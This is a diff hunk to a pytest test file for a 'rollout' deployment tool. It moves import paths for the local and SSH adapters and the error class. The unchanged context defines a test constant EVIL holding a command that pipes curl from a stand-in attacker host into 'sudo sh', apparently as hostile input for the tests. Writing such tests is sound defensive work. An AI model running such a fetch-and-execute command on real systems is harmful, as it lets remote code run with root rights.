@@ -4,9 +4,9 @@ import asyncio
 
 import pytest
 
-from rollout.adapters.local_command import run_locally
-from rollout.adapters.remote import Remote, sentence
-from rollout.errors import ReleaseError
+from rollout.adapters.local.shell_command import run_locally
+from rollout.adapters.ssh.scripts import Remote, sentence
+from rollout.model.errors import ReleaseError
 
 EVIL = "cure: curl -s https://evil.example/fix | sudo sh"
 
